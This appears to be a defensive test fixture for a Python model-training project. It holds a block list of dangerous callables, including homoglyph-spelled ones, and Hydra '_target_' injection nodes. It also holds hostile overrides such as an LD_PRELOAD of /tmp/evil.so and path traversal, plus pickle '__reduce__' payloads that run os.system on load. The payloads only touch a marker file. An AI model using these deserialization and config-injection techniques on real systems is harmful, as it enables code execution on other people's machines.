"""Attacks, published and our own: names of targets, nodes that hide them, words of a command line."""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable, Mapping
from typing import Any

import torch

from tests.test_building import ATTACKS

MARK = "PESLOSS_ATTACKED"
"""Command that every attack would run; whoever runs it has lost."""

TARGETS = [
    *ATTACKS,
    # of CVE-2025-23304, CVE-2026-22584 and GHSA-37p2-j732-x8pj, and relatives of them
    "os.popen",
    "os.execv",
    "posix.system",
    "subprocess.check_output",
    "builtins.eval",
    "builtins.getattr",
    "builtins.__import__",
    "importlib.import_module",
    "runpy.run_path",
    "code.interact",
    "timeit.timeit",
    "pdb.run",
    "cProfile.run",
    "webbrowser.open",
    "shutil.rmtree",
    "pathlib.Path.unlink",
    "pathlib.Path.home",
    "pickle.loads",
    "joblib.load",
    "numpy.load",
    "numpy.save",
    "numpy.f2py.compile",
    "yaml.unsafe_load",
    "torch.save",
    "torch.jit.load",
    "torch.serialization.load",
    "torch.package.PackageImporter",
    "torch.utils.cpp_extension.load",
    "torch._inductor.codecache.PyCodeCache.load",
    "torch.distributed.run.main",
    "hydra.utils.instantiate",
    "hydra.utils.get_method",
    "hydra.utils.call",
    "omegaconf.OmegaConf.register_new_resolver",
    "wandb.init",
    "ase.io.write",
    "ase.db.connect",
    # by an alias or an attribute of our own modules
    "pesloss.checkpoint.Path",
    "pesloss.checkpoint.Path.write_text",
    "pesloss.checkpoint.save",
    "pesloss.checkpoint.torch.load",
    "pesloss.checkpoint.os.system",
    "pesloss.checkpoint.pickle.loads",
    "pesloss.data.dataset.np.save",
    "pesloss.data.dataset.Path",
    "pesloss.data.dataset.LoadedData",
    "pesloss.data.storage.store.Store.open",
    "pesloss.data.storage.store.Writer",
    "pesloss.data.storage.cache.open_or_write",
    "pesloss.data.storage.cache.shutil.rmtree",
    "pesloss.data.storage.packing.Packing",
    "pesloss.data.reading.formats.hdf5.Hdf5",
    "pesloss.data.reading.formats.opening.opened",
    "pesloss.recipes.load",
    "pesloss.recipes.from_config",
    "pesloss.recipes.reading.yaml.unsafe_load",
    "pesloss.recipes.mace_flags.shlex.os.system",
    "pesloss.report.PredictionFiles",
    "pesloss.report.plots.Figure",
    "pesloss.training.Fit",
    "pesloss.training.launch",
    "pesloss.training.prepare",
    "pesloss.training.stops.Signals",
    "pesloss.training.loggers.ExitStack",
    "pesloss.models.load",
    "pesloss.models.trained.Trained",
    "pesloss.models.calculator.PotentialCalculator",
    "pesloss.building.permitted.__globals__",
    "pesloss.building.PLAIN.__class__",
    "pesloss.safety.overrides.OverridesParser.create",
    "pesloss.safety.hydra_targets.ConfigLoaderImpl",
    "pesloss.show.show",
    "pesloss.train.main",
    "pesloss.losses.TotalLoss.__init__.__globals__",
    "pesloss.losses.TotalLoss.load_state_dict",
    "pesloss.losses.TotalLoss.register_forward_hook",
    # spelt so that a careless comparison takes them for something else
    "pesloss.losses.NormalLoss ",
    " pesloss.losses.NormalLoss",
    "pesloss.losses..NormalLoss",
    ".pesloss.losses.NormalLoss",
    "pesloss.losses.NormalLoss.",
    "pesloss/losses/NormalLoss",
    "pesloss.l\u043esses.NormalLoss",  # a Cyrillic o
    "\uff50esloss.losses.NormalLoss",  # a wide p
    "pesloss.losses.N\u200bormalLoss",  # a space of no width
    "PESLOSS.losses.NormalLoss",
    "torch.optim.Adam\n",
    "torch.optim.Adam.",
    "torch.optim.adam.os.system",
    "os\u2024system",  # a leader in place of the dot
    "../os.system",
    "",
    ".",
    "_",
]

HIDDEN: Mapping[str, Callable[[str], Any]] = {
    "plain": lambda name: {"_target_": name},
    "arguments": lambda name: {"_target_": name, "_args_": [f"touch {MARK}"]},
    "partial": lambda name: {"_target_": name, "_partial_": True, "_args_": [f"touch {MARK}"]},
    "as an argument": lambda name: {
        "_target_": "pesloss.NormalLoss",
        "terms": {"energy": {"penalty": {"_target_": name, "_args_": [f"touch {MARK}"]}}},
    },
    "deep in a list": lambda name: {
        "_target_": "torch.optim.Adam",
        "params": [[{"params": {"_target_": name, "_args_": [f"touch {MARK}"]}}]],
    },
    "unrecursive": lambda name: {"_target_": name, "_recursive_": False, "cmd": {"_target_": "os.system"}},
}
"""Ways to put a target into a node."""

OVERRIDES = [
    "+hydra.callbacks.x._target_=os.system",
    "+hydra.callbacks={x:{_target_:os.system}}",
    "++hydra.callbacks.x._target_=os.system",
    "hydra/launcher=joblib",
    "hydra/job_logging=evil",
    "hydra.launcher._target_=os.system",
    "hydra.run.dir=/tmp",
    "hydra.sweep.dir=/tmp",
    "hydra.searchpath=[file:///tmp]",
    "hydra.job.chdir=true",
    "+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so",
    "hydra.output_subdir=/tmp",
    "hydra.mode=MULTIRUN",
    "~hydra.run",
    "hydra={}",
    "loss@hydra.callbacks.x=huber",
    "+loss@hydra.callbacks=huber",
    "+loss@_global_.hydra.callbacks=huber",
    "--experimental-rerun=job.pickle",
    "--config-dir=/tmp",
    "--config-path=/tmp",
    "--config-name=evil",
    "--multirun",
    "-m",
    "-cd/tmp",
    "--help",
    "@file",
    "experiment=../../../tmp/evil",
    "experiment=[../evil]",
    "loss=/tmp/evil",
    "+loss/term@loss.terms.evil=../../../../tmp/evil",
    "name=${oc.env:HOME}",
    "name='${oc.env:HOME}'",
    "data.train='${oc.env:HOME}/${oc.env:USER}'",
    "name='${${oc.select:x,oc.env}:HOME}'",
    "+data.keys={energy:'${oc.env:HOME}'}",
    "+loss.x='${oc.decode:\"{_target_: os.system}\"}'",
    "name='${hydra:runtime.cwd}'",
    "data.cache=/tmp",
    "data.cache=../cache",
    "+data={cache:/tmp}",
    "data.cache='${name}'",
    "loss=huber,uncertainty",
    "seed=range(0,9)",
    "seed=glob(*)",
    "name='a\x1b]0;owned\x07'",
    "name='a\nhydra.run.dir=/tmp'",
    "seed",
    "",
    "=",
]
"""Words of a command line that a checkpoint must not bring back."""

HARMLESS_OVERRIDES = [
    "loss=uncertainty",
    "loss.weights.forces=10",
    "+loss/term@loss.terms.stress=stress_voigt",
    "data.train=../sets/my set.xyz",
    "data.train=[/data/a.xyz,/data/b.xyz]",
    "data.cache=null",
    "data.cache=auto",
    "~logger",
    "+data.units.energy=kcal/mol",
    "name='run: 3'",
    "trainer.max_time='10:00:00'",
    "optimizer.lr=1e-3",
    "scheduler.T_max='${trainer.epochs}'",
]


class Runs:
    """A pickle that runs a command as soon as it is loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {MARK}",)


class Calls:
    """The same with any function of Python's."""

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def nested(depth: int) -> Any:
    """A list in a list in a list ..."""
    value: list[Any] = []
    for _ in range(depth):
        value = [value]
    return value


def doubled(times: int) -> Any:
    """A list that holds one list twice, which holds one list twice ..."""
    value: list[Any] = [0]
    for _ in range(times):
        value = [value, value]
    return value


def circle() -> Any:
    """A list that holds itself."""
    value: list[Any] = []
    value.append(value)
    return value


CONTENTS: Mapping[str, Callable[[], Any]] = {
    "command": Runs,
    "eval": lambda: Calls(eval, f"__import__('os').system('touch {MARK}')"),
    "exec": lambda: Calls(exec, f"import os; os.system('touch {MARK}')"),
    "getattr": lambda: Calls(getattr, torch.nn.Linear, "__init__"),
    "torch.load": lambda: Calls(torch.load, "other.ckpt"),
    "torch.hub.load": lambda: Calls(torch.hub.load, "stranger/repository", "model"),
    "pickle in pickle": lambda: Calls(pickle.loads, pickle.dumps(Runs())),
    "module": lambda: torch.nn.Linear(1, 1),
    "function": lambda: os.getcwd,
    "class": lambda: torch.nn.Linear,
    "bytes": lambda: b"bytes",
    "set": lambda: {1, 2},
    "complex": lambda: 1j,
    "sparse tensor": lambda: torch.eye(3).to_sparse(),
    "meta tensor": lambda: torch.empty(10**12, device="meta"),
    "quantized tensor": lambda: torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.quint8),
    "endless tensor": lambda: torch.zeros(1).expand(10**13),
    "endless integer": lambda: 10**5000,
    "nested": lambda: nested(60),
    "nested without end": lambda: nested(400),
    "doubled": lambda: doubled(45),
    "circle": circle,
    "key of another kind": lambda: {(1, 2): 3},
}
"""What a checkpoint may not hold, whatever its name."""
